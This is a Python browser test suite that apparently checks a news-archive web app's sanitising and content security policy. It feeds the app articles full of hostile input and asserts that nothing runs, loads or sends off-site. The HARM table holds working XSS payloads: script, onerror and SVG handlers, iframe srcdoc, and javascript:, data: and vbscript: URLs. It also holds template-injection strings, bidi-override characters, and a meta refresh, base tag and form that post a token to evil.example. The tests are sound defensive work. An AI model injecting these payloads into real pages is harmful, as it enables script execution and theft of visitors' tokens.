"""The desk over articles that mean harm, in a real browser: no page of theirs runs, loads, sends or turns round anything."""

import json
import re
import subprocess
import xml.etree.ElementTree as xml

import pytest
from test_desk import PROGRAM, Tab

# What a text may hold that a browser would run, load, send or be turned round by.
HARM = {
    "script": "<script>window.harm=1;alert(1)</script>",
    "attribute": "\"' onmouseover=window.harm=2 x=\"><img src=x onerror=\"window.harm=2\">",
    "svg": "<svg onload=window.harm=3><a xlink:href=\"javascript:window.harm=3\"><text>o</text></a><style>*{display:none}</style></svg>",
    "frame": "<iframe srcdoc=\"<script>top.harm=4</script>\"></iframe><object data=x></object><embed src=x>",
    "head": "</title></textarea></select><base href=//evil.example/><meta http-equiv=refresh content=\"0;url=https://evil.example\"><link rel=stylesheet href=//evil.example>",
    "form": "</form><form action=\"https://evil.example/take\" method=post><input name=token value=x><button>Go</button></form>",
    "end": "]]>--><script>window.harm=7</script><!--",
    "template": "{{7*7}}{% raw %}${window.harm=8}<%= 1 %>",
    "override": "\u202eesrever",
    "isolate": "\u2067\u202dopen",
    "control": "\x08\x1b[31m\x7f\x85\ufeff\u2028\ufffe",
    "long": "A" * 3000,
}
# Names that look like another.
LATIN, CYRILLIC, JOINED = "Dana Quill", "D\u0430na Quill", "Da\u200bna Qu\u200dill"
# Marks that begin an order of writing, and end one.
WORDS = """{harm} shuts the ferry pier at Oster

OSTER, 5 May 2031 - The pier at Oster was shut on Monday. "We were told {harm} and nothing else," said Dana {harm} Quill, the harbour clerk. She asked whether {harm} had been seen.

"The pier is safe {harm}," said {name}. The {harm} office denied that {harm} was found. Mara Ode, the {harm} treasurer, declined to say whether {harm} was paid.
"""


def article(at, name, harm):
    urls = {"script": "javascript:window.harm=9//", "svg": "data:text/html,<script>window.harm=9</script>", "form": "vbscript:harm"}
    return {
        "title": f"{harm} shuts the ferry pier at Oster", "outlet": f"The {harm} Courier", "byline": f"By {harm}", "published": "2031-05-05",
        "url": urls.get(name, f"https://pier.example/{at}?{harm}"), "text": WORDS.format(harm=harm, name=[LATIN, CYRILLIC, JOINED][at % 3]),
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The address of a desk over nothing but harm."""
    folder = tmp_path_factory.mktemp("hostile")
    archive, file = folder / "hostile.onrecord", folder / "articles.jsonl"
    run = lambda *words: subprocess.run([PROGRAM, *map(str, words), "--archive", str(archive)], check=True, capture_output=True)
    articles = [article(at, name, harm) for at, (name, harm) in enumerate(HARM.items())]
    write = lambda: file.write_text("\n".join(map(json.dumps, articles)))
    file.write_text(json.dumps({"text": "It rained, said Mara Ode.", "published": "2031-05-04"}))
    run("add", file)
    run("watch", "said", "--by", "quill")
    run("watch", "conflict", "--by", HARM["attribute"])
    write()
    run("add", file)
    for one in articles:
        one["text"] = one["text"].replace("is safe", "is not safe")
    write()
    run("add", file)
    served = subprocess.Popen([PROGRAM, "serve", "--port", "0", "--archive", str(archive), "--by", HARM["script"]], stdout=subprocess.PIPE, text=True)
    yield served.stdout.readline().split(" at ")[1].split("/ ")[0]
    served.terminate()
    served.wait(timeout=15)


# Told of before anything of the page is read: what its policy had to forbid.
WATCH = """window.forbidden = [];
document.addEventListener('securitypolicyviolation', (told) => forbidden.push(told.violatedDirective + ' ' + told.blockedURI));"""

# What a page of ours never holds.
FOUND = """() => {
  const found = [...window.forbidden];
  if (window.harm !== undefined) found.push('ran ' + window.harm);
  for (const it of document.querySelectorAll('*')) {
    if (['IMG', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'STYLE', 'VIDEO', 'AUDIO', 'FOREIGNOBJECT', 'ANIMATE', 'SET'].includes(it.tagName.toUpperCase())) found.push(it.outerHTML);
    if (it.tagName === 'META' && it.httpEquiv) found.push(it.outerHTML);
    if (it.tagName === 'SCRIPT' && !it.getAttribute('src')?.startsWith('/assets/')) found.push(it.outerHTML);
    if (it.tagName === 'FORM' && !it.getAttribute('action').startsWith('/')) found.push(it.outerHTML);
    for (const { name, value } of it.attributes) {
      if (name.startsWith('on') || name === 'style' || name === 'srcdoc') found.push(name + '=' + value);
      if (/^(href|src|action|formaction|xlink:href)$/.test(name) && !/^(https?:[/][/]|[/#?]|$)/.test(value)) found.push(name + '=' + value);
    }
  }
  if (document.documentElement.scrollWidth > innerWidth) found.push('wider than the screen: ' + document.documentElement.scrollWidth);
  return found;
}"""

# Texts that leave an order of writing open; what a form sends back stands as it is.
OPEN = """() => {
  const left = (text) => {
    const open = [];
    for (const mark of text) {
      if ('\\u202a\\u202b\\u202d\\u202e'.includes(mark)) open.push('embedding');
      else if ('\\u2066\\u2067\\u2068'.includes(mark)) open.push('isolate');
      else if (mark === '\\u202c' && open.at(-1) === 'embedding') open.pop();
      else if (mark === '\\u2069' && open.includes('isolate')) open.length = open.lastIndexOf('isolate');
    }
    return open.length > 0;
  };
  const texts = document.createTreeWalker(document, NodeFilter.SHOW_TEXT), found = [];
  while (texts.nextNode()) {
    const it = texts.currentNode;
    if (!it.parentElement.closest('textarea') && left(it.data)) found.push(it.parentElement.outerHTML.slice(0, 200));
  }
  return found;
}"""


def test_no_page_of_harm_runs_loads_sends_or_turns_round_anything(browser, hostile):
    tab = Tab(browser, hostile, viewport={"width": 360, "height": 740})
    tab.context.add_init_script(WATCH)
    tab.page.on("dialog", lambda dialog: (tab.wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
    tab.context.on("page", lambda page: tab.wrong.append(f"opened {page.url}"))
    waiting, seen, wrong = ["/", "/search?q=pier", "/search?q=pier&in=articles", "/news?by=%22%3E%3Cimg%20src%3Dx%3E&story=%3Cb%3E", "/queue", "/sign-in", "/api"], set(), []
    kinds = {}
    while waiting:
        path = waiting.pop().split("#")[0]
        kind = re.sub(r"/[dp][0-9a-z]{12}(\.s\d+)?", "/…", path.split("?")[0])
        if path in seen or kinds.get(kind, 0) >= 60:
            continue
        seen.add(path)
        kinds[kind] = kinds.get(kind, 0) + 1
        page = tab.open(path)
        wrong += [f"{path}: {it}" for it in page.evaluate(FOUND) + page.evaluate(OPEN)]
        links = page.eval_on_selector_all("a[href]", "all => all.map(it => it.getAttribute('href'))")
        waiting += [link for link in links if link.startswith("/") and not re.search(r"\.(json|atom)\b", link)]
    assert wrong == [] and len(seen) > 100, (len(seen), wrong[:10])
    for kind in ["/stories/…", "/stories/…/correct", "/documents/…", "/documents/…/versions", "/statements/…", "/people/…", "/corrections", "/keys"]:
        assert kind in kinds, kind
    tab.close()


def test_an_order_turned_round_ends_with_the_name_that_turns_it(browser, hostile):
    tab = Tab(browser, hostile, viewport={"width": 1200, "height": 900})
    page = tab.open("/people")
    # Of every line with such a name, whether the words after it still run from left to right.
    runs = page.evaluate("""() => [...document.querySelectorAll('.item')].filter((it) => /[\\u202d\\u202e\\u2067]/.test(it.textContent)).map((item) => {
      const texts = document.createTreeWalker(item, NodeFilter.SHOW_TEXT), range = document.createRange(), out = [];
      while (texts.nextNode()) {
        const it = texts.currentNode, words = /[a-z]+ [a-z]+/.exec(it.data);
        if (/[\\u202d\\u202e\\u2067]/.test(it.data) || !words) continue;
        const left = (at) => (range.setStart(it, at), range.setEnd(it, at + 1), range.getBoundingClientRect().left);
        out.push(left(words.index) < left(words.index + 1));
      }
      return out;
    })""")
    assert runs and all(all(of_line) for of_line in runs), runs
    tab.close()


def test_names_that_look_alike_are_not_made_one(browser, hostile):
    tab = Tab(browser, hostile)
    people = tab.context.request.get(f"{hostile}/api/v1/people?limit=200").json()["items"]
    ids = {name: {it["id"] for it in people if it["name"] == name} for name in [LATIN, CYRILLIC]}
    assert all(len(of_name) == 1 for of_name in ids.values()) and ids[LATIN] != ids[CYRILLIC], [it["name"] for it in people]
    for name, of_name in ids.items():
        said = tab.context.request.get(f"{hostile}/people/{min(of_name)}.json").json()["said"]
        assert said and all(it["speaker"] == name for it in said)
    tab.close()


def test_feeds_of_harm_are_whole(browser, hostile):
    tab = Tab(browser, hostile)
    ask = tab.context.request.get
    story = ask(f"{hostile}/index.json").json()["stories"][0]["id"]
    for path in ["/stories", "/questions", "/news", "/search", f"/stories/{story}"]:
        asked = "?q=pier" if path == "/search" else ""
        feed = xml.fromstring(ask(f"{hostile}{path}.atom{asked}").text())
        assert not [it for it in feed.iter() if it.tag.endswith("script")] and feed.tag.endswith("feed"), path
        assert ask(f"{hostile}{path}.feed.json{asked}").json()["version"], path
    tab.close()
